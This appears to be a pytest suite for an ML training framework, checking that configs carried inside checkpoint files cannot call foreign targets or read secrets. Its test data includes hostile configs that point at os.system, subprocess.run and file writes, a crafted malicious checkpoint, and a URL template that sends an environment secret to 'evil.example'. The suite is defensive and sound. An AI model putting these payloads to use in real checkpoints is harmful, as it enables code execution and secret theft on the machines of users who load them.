"""A config that came with a file does nothing that `conf/` does not name."""

import pytest
import torch
from omegaconf import OmegaConf

from shared.checkpoints.config import configure
from shared.command.cli import evaluate
from shared.config.checks import check
from shared.config.root import ROOT
from shared.config.trusted import trusted
from shared.errors import UserError
from tests.conf.test_compose import PRIMARY, compose

GOOD = {"_target_": "projects.imagenet_resnet.data.ImageFolderData", "generate": {"_target_": "os.system"}}


@pytest.mark.parametrize(
    "node",
    [
        {"_target_": "os.system", "command": "true"},
        {"_target_": "shared.command.cli.os.system"},  # a way round through a module of ours
        {"data": {"_target_": "${data.name}", "name": "os.system"}},
        {"framework": {"package": "evil"}, "task": {"_target_": "${framework.package}.loggers.wandb"}},
        {"task": {"loss": "${loss}"}, "loss": {"_target_": "pathlib.Path.write_text"}},
        {"task": "${elsewhere}", "elsewhere": {"_target_": "torch.load", "weights_only": False}},
        {"_target_": "\\${name}", "name": "os.system"},  # would be resolved only the second time
        {"_target_": ["os.system"]},
        GOOD,
        {"callbacks": [{"inner": {"_target_": "subprocess.run", "_partial_": True}}]},
    ],
)
def test_foreign_targets_are_refused(node):
    with pytest.raises(UserError, match="would run"):
        trusted(node, "x.ckpt")


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/${oc.env:SECRET}",
        "${oc.${name}:SECRET}",
        "${ oc.env:SECRET}",
        "${eval:1+1}",
        "\\${oc.env:SECRET}",
        "$${name}{oc.env:SECRET}",
    ],
)
def test_a_foreign_config_looks_nothing_up(text, monkeypatch):
    monkeypatch.setenv("SECRET", "hush")
    with pytest.raises(UserError, match="would look up") as refused:
        trusted({"name": "env", "data": {"roots": [text]}}, "x.ckpt")
    assert "hush" not in str(refused.value)


def test_checkpoints_cannot_be_left_out():
    left_out = compose("imagenet_resnet", "run_dir=/tmp/run", "callbacks.checkpoints=null")
    with pytest.raises(UserError, match=r"\(callbacks\.checkpoints\): set every_minutes"):
        check(left_out)


def test_our_own_targets_pass():
    node = {**GOOD, "generate": None, "framework": {"optimizers": "torch.optim"}}
    found = trusted({**node, "optimizer": {"_target_": "${framework.optimizers}.SGD"}}, "x.ckpt")
    assert found.optimizer._target_ == "torch.optim.SGD"


@pytest.mark.parametrize("project", PRIMARY)
def test_every_projects_own_config_passes(project):
    own = compose(project, "run_dir=/tmp/run")
    state = {"config": OmegaConf.to_container(own), "overrides": ["run_dir=/tmp/run"]}
    found = configure(project, ROOT / "conf", {"trainyard": state}, ["effective_batch_size=5"])
    assert found.effective_batch_size == 5
    for name in ("data", "model", "task", "optimizer", "schedule", "trainer", "hardware"):
        assert found[name] == own[name]


@pytest.mark.parametrize("state", ["config", "overrides"])
def test_a_checkpoint_is_refused_wherever_its_config_is_read(state, tmp_path):
    witness = tmp_path / "witness"
    target = {"_target_": "pathlib.Path.write_text", "_args_": [str(witness), "x"]}
    config = OmegaConf.to_container(compose("voxceleb")) | {"loss": target}
    overrides = [f"+elsewhere={{_target_: pathlib.Path.write_text, _args_: [{witness}, x]}}"]
    given = {"config": config} if state == "config" else {"overrides": overrides}
    with pytest.raises(UserError, match=r"would run pathlib\.Path\.write_text"):
        configure("voxceleb", ROOT / "conf", {"trainyard": given}, [])


def test_callbacks_of_ones_own_are_no_obstacle():
    config = OmegaConf.to_container(compose("imagenet_resnet"))
    config["callbacks"]["mine"] = {"_target_": "my.package.Callback"}
    found = configure("imagenet_resnet", ROOT / "conf", {"trainyard": {"config": config}}, [])
    assert not found.callbacks


def test_evaluating_a_checkpoint_runs_nothing_foreign(command, tmp_path):
    witness, path = tmp_path / "witness", tmp_path / "evil.ckpt"
    config = OmegaConf.to_container(compose("imagenet_resnet")) | {"data": "${elsewhere}"}
    config["elsewhere"] = {"_target_": "pathlib.Path.touch", "_args_": [str(witness)]}
    torch.save({"state_dict": {}, "trainyard": {"config": config}}, path)
    ended = command(evaluate, "imagenet_resnet", f"checkpoint={path}")
    assert ended.code == 2 and "would run pathlib.Path.touch" in ended.err
    assert not witness.exists()
